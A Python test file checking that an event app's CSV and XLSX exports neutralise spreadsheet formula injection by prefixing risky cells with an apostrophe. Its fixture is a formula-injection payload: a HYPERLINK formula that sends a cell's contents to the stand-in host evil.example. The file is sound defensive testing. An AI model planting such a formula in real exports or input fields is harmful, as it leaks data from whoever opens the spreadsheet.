"""Spreadsheet exports never carry a live formula, whatever a participant is called."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi import FastAPI
from openpyxl import load_workbook
from sqlmodel import Session

from tests.conftest import OrganiserClient
from tests.web.helpers import load_tiny, person, store_version
from web import models as m
from web.usecases.exports import spreadsheet_text

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(start: str) -> None:
    assert spreadsheet_text(start + "1+1") == "'" + start + "1+1"


def test_a_plain_cell_is_left_as_it_is() -> None:
    assert spreadsheet_text("Nguyen Van An") == "Nguyen Van An"


def _export(app: FastAPI, client: OrganiserClient, kind: str) -> bytes:
    event_id = load_tiny(app)
    with Session(app.state.engine) as session:
        row = session.get(m.Participant, person(app, "B001-1").id)
        assert row is not None
        row.name = FORMULA
        session.add(row)
        session.commit()
    number = store_version(app, event_id, {"R00001": (0, "T005")})
    return bytes(client.get(f"/events/{event_id}/versions/{number}/export.{kind}").content)


def test_the_csv_export_neutralises_a_formula_name(
    app: FastAPI, organiser_client: OrganiserClient
) -> None:
    rows = list(csv.reader(io.StringIO(_export(app, organiser_client, "csv").decode("utf-8-sig"))))
    names = {cell for row in rows[1:] for cell in (row[5], row[8])}
    assert "'" + FORMULA in names


def test_the_xlsx_export_writes_a_formula_name_as_text(
    app: FastAPI, organiser_client: OrganiserClient
) -> None:
    sheet = load_workbook(io.BytesIO(_export(app, organiser_client, "xlsx"))).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if "HYPERLINK" in str(c.value)]
    assert [(c.value, c.data_type) for c in cells] == [("'" + FORMULA, "s")]
